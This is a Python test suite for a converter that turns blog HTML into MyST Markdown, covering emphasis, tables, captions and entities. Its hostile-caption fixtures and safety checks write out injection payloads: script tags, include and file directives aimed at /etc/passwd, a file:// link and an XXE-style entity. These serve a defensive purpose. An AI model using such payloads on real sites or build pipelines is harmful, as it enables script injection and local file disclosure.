    (f"<b><table><tr><td>a</td></tr><tr><td>b {NORMAL}c</span></td></tr></table></b>",  # a block is none
     "|  |\n| --- |\n| a |\n| **b** c |\n"),
    (f"<p><b>a {NORMAL}b <b>c</b> d</span> e</b></p>", "**a** b **c** d **e**\n"),
    (f"<p><b>a <b>b {NORMAL}c</span></b></b></p>", "**a** **b** c\n"),
    ('<p><b style="font-weight: normal">Plain</b> text, <i style="font-style: normal">upright</i>.</p>',
     "Plain text, upright.\n"),
    ('<p><b>a <span style="font-style: normal">b</span></b></p>', "**a b**\n"),  # upright is no undoing of bold
    (f"<p><b><code>a {NORMAL}b</span></code></b></p>", "**`a b`**\n"),  # code shows no bold of its own
    (f'<p><b>"quoted"{NORMAL}plain</span></b></p>', '"quoted"plain\n'),  # "**" between " and p is no closing
])
def test_a_style_that_undoes_bold_or_italics_ends_them_around_what_it_holds(html, text):
    converted = html_to_myst(html)
    assert converted.text == text and converted.warnings == []


@given(LINE, LINE, LINE)
def test_whatever_bold_holds_around_a_style_that_undoes_it_its_words_come_out_and_nothing_else(before, plain, after):
    source = f"<p><b>{before}<i>{NORMAL}{plain}</span></i>{after}</b></p>"
    converted = html_to_myst(source, base=BASE)
    assert is_safe_myst(converted.text)
    assert visible(SPHINX_MYST.render(converted.text)) == visible(raised(source))


@pytest.mark.parametrize(("html", "text"), [
    ("<p><b>a </b><i><b>b</b></i></p>", "**a** ***b***\n"),
    ("<p><b>a</b><i><b> b</b> c</i></p>", "**a** ***b** c*\n"),
    ("<p><i>a <s>b </s></i><s>c</s></p>", "*a ~~b~~* ~~c~~\n"),
])
def test_emphasis_apart_from_the_same_by_white_space_stays(html, text):
    """White space at the edge of bold, italics or struck-out words is written outside their markup, between the
    two."""
    converted = html_to_myst(html)
    assert converted.text == text and converted.warnings == []


@pytest.mark.parametrize("html", ["<p>a</p><xmp><b>x</b> & y</xmp>", "<p>a</p><plaintext><b>x</b> & y"])
def test_obsolete_tags_that_show_text_as_written_are_code(html):
    converted = html_to_myst(html)
    assert not converted.plain_text and converted.warnings == []
    assert rendered(converted.text).select_one("pre").get_text() == "<b>x</b> & y\n"  # nothing added or escaped twice


def test_code_is_kept_as_written():
    code = ":::note\n% a comment?\n(label)=\n+++\n\\:::\n```"
    converted = html_to_myst(f"<pre>{code}</pre><ul><li><pre>:::</pre></li></ul>")
    blocks = rendered(converted.text).find_all("code")
    assert [block.get_text() for block in blocks] == [code + "\n", ":::\n"]


def test_an_undefined_entity_is_kept_and_reported():
    converted = html_to_myst("<p>XXE:&xxe;:END and &#0; and &copy; and AT&amp;T</p>")
    assert rendered(converted.text).get_text().strip() == "XXE:&xxe;:END and \ufffd and © and AT&T"
    assert converted.warnings == ["'&xxe;' is not a character entity HTML defines; it is kept as written",
                                  "'&#0;' is not a character; it is shown as '\ufffd'"]


@pytest.mark.parametrize("block", ["center", "address", "aside", "figcaption", "summary", "dt", "dd", "legend"])
def test_words_in_blocks_the_allowlist_does_not_keep_stay_apart(block):
    converted = html_to_myst(f"Before<{block}>Inside</{block}>After")
    assert converted.text.split() == ["Before", "Inside", "After"] and converted.warnings == []


def test_a_character_xml_cannot_hold_is_shown_as_the_replacement_character_and_reported():
    """Written or referred to, in text or in an attribute: the Atom feed could not carry it."""
    converted = html_to_myst('<p><a href="https://example.org/" title="a\x1fb">One&#11;two</a>\x0cthree &#xFFFF; four</p>')
    shown = rendered(converted.text)
    assert shown.get_text().strip() == "One\ufffdtwo\ufffdthree \ufffd four" and shown.find("a")["title"] == "a\ufffdb"
    assert converted.warnings == [f"U+{code} ({kind}) is a character XML cannot hold (the Atom feed is XML); "
                                  "it is shown as '\ufffd'" for code, kind in
                                  [("001F", "a control character"), ("000B", "a control character"),
                                   ("000C", "a control character"), ("FFFF", "a noncharacter")]]


CAPTIONED = ("<p>Relapses:</p><table><caption>Table 1: <b>relapses</b> a year</caption><tr><th>Dose</th><th>Rate</th>"
             "</tr><tr><td>120 mg</td><td>0.2</td></tr></table>")


def test_a_tables_caption_is_its_caption():
    converted = html_to_myst(CAPTIONED, post=POST)
    assert converted.text == ("Relapses:\n\n:::{table} Table 1: **relapses** a year\n| Dose | Rate |\n| --- | --- |\n"
                              "| 120 mg | 0.2 |\n:::\n")
    assert converted.warnings == [] and not converted.plain_text


def test_a_comments_table_caption_is_a_paragraph_before_it():
    """A comment is read as CommonMark, which has no directive."""
    converted = html_to_myst(CAPTIONED)
    assert converted.text == ("Relapses:\n\nTable 1: **relapses** a year\n\n| Dose | Rate |\n| --- | --- |\n"
                              "| 120 mg | 0.2 |\n")
    assert converted.warnings == [] and not converted.plain_text


@pytest.mark.parametrize(("table", "kept"), [("<table><tr></tr></table>", ""), ("<table></table>", ""),
                                            ("<table><caption>Table 1: <b>none</b></caption><tr></tr></table>",
                                             "Table 1: **none**\n\n")])
def test_a_table_without_a_cell_is_its_caption_alone_and_the_post_keeps_its_formatting(table, kept):
    """A table of rows without cells made the whole post plain text (Markdown's table would add "| |")."""
    converted = html_to_myst(f"<p>Before.</p>{table}<p>After <b>bold</b>.</p>", post=POST)
    assert " ".join(converted.text.split()) == " ".join(f"Before.\n\n{kept}After **bold**.\n".split())
    assert converted.warnings == [] and not converted.plain_text


# A caption's text, and the text of its title as MyST shows it.
HOSTILE_CAPTIONS = [
    ("one<br>two", "one two"), ("one\n:::\n{raw} html", "one ::: {raw} html"), ("`a` ``b`` } {", "`a` ``b`` } {"),
    ("{raw}`<b>x</b>`", "{raw}`x`"), (":::{raw} html", ":::{raw} html"), ("```{eval-rst}", "```{eval-rst}"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"), ("<script>alert(1)</script>Safe", "Safe"),
    ("(label)=", "(label)="), ("% no comment", "% no comment"), (".. include:: /etc/passwd", ".. include:: /etc/passwd"),
    (":file: /etc/passwd", ":file: /etc/passwd"), ("{table} twice", "{table} twice"),
    ("[x](file:///etc/passwd)", "[x](file:///etc/passwd)"), ("a | b \\", "a | b \\"), ("<code>a}b</code>", "a}b"),
]


@pytest.mark.parametrize(("caption", "shown"), HOSTILE_CAPTIONS)
def test_a_captions_text_reaches_the_page_only_as_the_tables_title(caption, shown):
    """A line break, backticks, ``}``, a directive or what MyST would read as its own: the title is one line of text,
    and the directive holds the table and nothing else, which msblog check passes."""
    converted = html_to_myst(f"<table><caption>{caption}</caption><tr><td>cell</td></tr></table>", post=POST)
    assert not converted.plain_text and converted.warnings == []
    tokens = SPHINX_MYST.parse(converted.text)
    assert [token.type for token in tokens] == ["colon_fence"] and tokens[0].info.startswith("{table} ")
    assert BeautifulSoup(SPHINX_MYST.renderInline(tokens[0].info.removeprefix("{table} ")), "lxml").get_text() == shown
    assert [cell.get_text() for cell in rendered(tokens[0].content).select("td")] == ["cell"]
    page = f"---\ndate: 2015-06-01\n---\n\n# Tables\n\n{converted.text}"
    assert check_page(Path("posts/2015/06/tables.md"), page) == [] and not list(file_directive_problems(page))


@pytest.mark.parametrize(("html", "text"), [
    ("<table><caption>One</caption><caption>two</caption><tr><td>1</td></tr></table>", "One\n\ntwo\n\n|  |\n"),
    ("<table><tr><td>1</td></tr><caption>After</caption></table>", "|  |\n| --- |\n| 1 |\n\nAfter\n"),
    ("<table><caption><p>Table 1</p><p>Relapses</p></caption><tr><td>1</td></tr></table>", "Table 1\n\nRelapses\n\n|"),
    ("<p>a</p><table><caption>No cells</caption></table>", "a\n\nNo cells\n"),
    ("<table><tr><td><table><caption>Inner</caption><tr><td>1</td></tr></table></td></tr></table>", "| Inner   1 |"),
])
def test_a_caption_a_title_cannot_hold_is_kept_where_it_stands(html, text):
    """Two captions, one after the rows, one holding paragraphs, one of a table of no cells, one of a table in a
    table's cell."""
    converted = html_to_myst(html, post=POST)
    assert text in converted.text and ":::" not in converted.text
    assert not converted.plain_text and converted.warnings == []


# MyST as the build shows a table's directive: its title as the caption, then its table.
TABLES_SHOWN = create_md_parser(MdParserConfig(enable_extensions={"colon_fence", "strikethrough"}), RendererHTML)
TABLES_SHOWN.add_render_rule("colon_fence", lambda self, tokens, index, options, env: (
    f"<table><caption>{TABLES_SHOWN.renderInline(tokens[index].info.removeprefix('{table} '))}</caption></table>"
    + TABLES_SHOWN.render(tokens[index].content)))


@given(LINE)
def test_whatever_a_caption_holds_its_words_are_the_tables_title_and_nothing_is_local_or_live(caption):
    source = f"<p>Before</p><table><caption>{caption}</caption><tr><td>cell</td></tr></table>"
    converted = html_to_myst(source, base=BASE, post=POST)
    assert is_safe_myst(converted.text, converted.targets)
    rendered = TABLES_SHOWN.render(converted.text)
    assert visible(rendered) == visible(raised(source))
    for address in links_and_sources(rendered):
        assert re.match(r"(https?://[^/]|mailto:)", address), address
    if BeautifulSoup(source, "lxml").caption.get_text().strip() and not converted.plain_text:
        assert [token.info.startswith("{table} ") for token in SPHINX_MYST.parse(converted.text)
                if token.type == "colon_fence"] == [True]


@pytest.mark.parametrize(("text", "safe"), [
    (":::{table} Title\n| a |\n| --- |\n:::\n", True),
    ("> :::{table} Title\n> | a |\n> | --- |\n> :::\n", True),
    (":::{table} [x](/etc/passwd)\n| a |\n| --- |\n:::\n", False),
    (":::{table} {raw}`<b>`\n| a |\n| --- |\n:::\n", False),
    (":::{table} Title\n:file: /etc/passwd\n| a |\n| --- |\n:::\n", False),
    (":::{table} Title\n| a |\n| --- |\n\n<script>alert(1)</script>\n:::\n", False),
    (":::{table} Title\n| a |\n| --- |\n\n| b |\n| --- |\n:::\n", False),
    (":::{table} Title\nText\n:::\n", False),
    (":::{table}\n| a |\n| --- |\n:::\n", False),
    (":::{raw} html\n| a |\n| --- |\n:::\n", False),
    ("```{table} Title\n| a |\n| --- |\n```\n", False),
])
def test_only_a_table_directive_holding_a_table_under_a_title_of_text_is_safe(text, safe):
    assert is_safe_myst(text) is safe


def test_a_post_holding_tables_with_captions_builds_and_shows_them_and_msblog_check_passes(tmp_path):
    """In a quotation and a list item too; with -W, the build shows each as a table's caption, as text."""
    html = (CAPTIONED + "".join(f"<table><caption>{caption}</caption><tr><td>cell</td></tr></table>"
                                for caption, _ in HOSTILE_CAPTIONS)
            + "<blockquote><table><caption>Quoted</caption><tr><td>q</td></tr></table></blockquote>"
            + "<ul><li>Item<table><caption>Listed</caption><tr><td>l</td></tr></table></li></ul>")
    converted = html_to_myst(html, post="2015/06/tables")
    assert not converted.plain_text and converted.warnings == []
    page = imported_post_page(tmp_path, "2015/06/tables", "Tables", converted.text)
    assert [table.select_one("caption > .caption-text").get_text() for table in page.select("table")] == [
        "Table 1: relapses a year", *(shown for _, shown in HOSTILE_CAPTIONS), "Quoted", "Listed"]
    assert not page.select(".caption-text :not(strong, code, span.pre)")  # bold and code the captions hold
